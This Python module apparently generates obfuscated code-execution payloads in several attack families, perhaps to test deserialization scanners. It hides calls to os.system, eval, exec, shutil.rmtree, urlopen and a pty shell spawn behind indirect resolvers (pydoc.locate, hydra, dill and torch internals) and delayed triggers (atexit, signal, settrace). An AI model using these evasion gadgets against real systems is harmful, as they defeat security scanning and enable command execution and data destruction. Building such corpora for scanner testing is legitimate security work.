"""resolver_families - attacks that find or run a function by way of others: resolvers, delay, results."""

from __future__ import annotations

import random
from typing import Any

from arguments import Arguments
from assembler import (
    Call,
    Name,
    attribute,
)
from callables import Payload
from calling import call, made, shell
from opcode_families import Maker, named

IMPORT = ("importlib", "import_module")


def resolved(rng: random.Random) -> tuple[Any, Any]:
    """A dangerous function found by a resolver, and what it is called with."""
    text = Arguments(rng)
    owner, name, argument = rng.choice(
        [
            ("os", "system", text.shell()),
            ("posix", "system", text.shell()),
            ("subprocess", "getoutput", text.shell()),
            ("subprocess", "Popen", text.argv()),
            ("builtins", "eval", text.expr()),
            ("builtins", "exec", text.code()),
            ("shutil", "rmtree", text.folder()),
            ("urllib.request", "urlopen", text.url()),
            ("pty", "spawn", "/bin/sh"),
        ]
    )
    module = rng.choice(
        [
            call(*IMPORT, owner),
            call("builtins", "__import__", owner),
            call("operator", "getitem", Name("sys", "modules"), owner),
            Call(attribute(Name("sys", "modules"), "get"), (owner,)),
        ]
    )
    ways: list[Any] = [
        attribute(module, name),
        call("pkgutil", "resolve_name", f"{owner}:{name}"),
        call("pydoc", "locate", f"{owner}.{name}"),
        call("inspect", "getattr_static", module, name),
        Call(call(rng.choice(["operator", "_operator"]), "attrgetter", name), (module,)),
        attribute(call("unittest.mock", "_importer", owner), name),
        call("builtins", "getattr", module, name, None),
        Call(attribute(attribute(module, "__dict__"), "get"), (name,)),
        call(
            "builtins",
            "next",
            call("builtins", "map", call("operator", "attrgetter", name), [module]),
        ),
        call("torch._jit_internal", "_qualified_name", f"{owner}.{name}"),
        call("hydra.utils", "get_method", f"{owner}.{name}"),
        call("dill._dill", "_get_attr", module, name),
        call("dill._dill", "_import_module", f"{owner}.{name}"),
    ]
    return rng.choice(ways), argument


def o27(rng: random.Random, one: Payload) -> bytes:
    function, argument = resolved(rng)
    if rng.random() < 0.15:
        return made(
            rng,
            Call(call("operator", "methodcaller", "system", shell(rng)), (call(*IMPORT, "os"),)),
        )
    return made(rng, Call(function, (argument,)))


def delayed(rng: random.Random, function: Any, arguments: tuple[Any, ...]) -> Any:
    partial = call("functools", "partial", function, *arguments)
    first = arguments[0] if arguments else None
    ways: list[Any] = [
        call("atexit", "register", function, *arguments),
        call("weakref", "finalize", Name("argparse", "Namespace"), function, *arguments),
        Call(partial, ()),
        {"callback": partial, "state": 1},
        call("builtins", "list", call("itertools", "starmap", function, [arguments])),
        call("builtins", "tuple", call("builtins", "map", function, [first])),
        call("builtins", "list", call("builtins", "filter", function, [first])),
        Call(attribute(call("collections", "defaultdict", partial), "__getitem__"), ("x",)),
        call("collections", "defaultdict", partial),
        call("threading", "Timer", 3.0, function, list(arguments)),
        call("builtins", "sorted", [first, first], None, function),
        call("functools", "reduce", function, [first, {}]),
        call("re", "sub", ".", partial, "x"),
        call("builtins", "iter", partial, None),
        call("concurrent.futures", "ThreadPoolExecutor.submit", None, function, *arguments),
        call("signal", "signal", 14, partial),
        call("sys", "settrace", partial),
        call("codecs", "register", partial),
        call("numpy", "vectorize", function),
        call("pandas.core.common", "pipe", first, function),
    ]
    return rng.choice(ways[:-2] if rng.random() < 0.8 else [Call(ways[-2], ([first],)), ways[-1]])


def o28(rng: random.Random, one: Payload) -> bytes:
    callee, arguments = named(rng, one)
    if rng.random() < 0.6:
        callee, arguments = Name(rng.choice(["os", "posix"]), "system"), (shell(rng),)
    return made(rng, delayed(rng, callee, arguments))


def o33(rng: random.Random, one: Payload) -> bytes:
    function, argument = resolved(rng)
    got = call("builtins", "next", call("builtins", "iter", [function]))
    ways: list[Any] = [
        Call(got, (argument,)),
        Call(call("operator", "getitem", [None, function], 1), (argument,)),
        Call(Call(attribute({"f": function}, "get"), ("f",)), (argument,)),
        Call(attribute(call("types", "SimpleNamespace"), "__class__"), (function, argument)),
        Call(Call(attribute([function], "pop"), ()), (argument,)),
        Call(call("functools", "partial", function), (argument,)),
    ]
    return made(rng, rng.choice(ways))


FAMILIES: dict[str, Maker] = {
    n.upper(): make for n, make in list(globals().items()) if n[:1] == "o" and n[1:].isdigit()
}
